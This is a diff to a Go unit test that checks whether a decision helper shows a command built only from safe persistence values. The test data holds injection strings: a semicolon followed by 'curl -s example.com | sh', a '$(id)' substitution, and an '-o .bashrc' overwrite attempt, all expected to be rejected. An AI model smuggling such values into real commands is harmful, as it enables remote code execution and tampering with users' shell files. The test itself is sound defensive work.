@@ -10,9 +10,9 @@ import (
 )
 
 func TestADecisionShowsACommandThatDoesOneThingOnly(t *testing.T) {
-	for persistence, shown := range map[string]bool{"log": true, "log --p99 20ms; curl -s example.com | sh #": false, "$(id)": false} {
+	for persistence, shown := range map[string]bool{"log": true, "log --p99 20ms; curl -s example.com | sh #": false, "$(id)": false, "log -o .bashrc": false, "-o": false} {
 		spec := study.Spec{Persistence: persistence, Delivery: "at-least-once", SubscriptionsPerTopic: 1}
-		spec.Curve.Rates = []float64{5000, 15000}
+		spec.Curve.Rates, spec.MessageSize = []float64{5000, 15000}, study.Sizes{{Size: 100, Weight: 1}}
 		d, err := Decision(advise.Advice{Case: &advise.Case{Spec: spec, Bound: 2e7}, Answer: advise.Unknown}, nil, nil)
 		if err != nil {
 			t.Fatal(err)
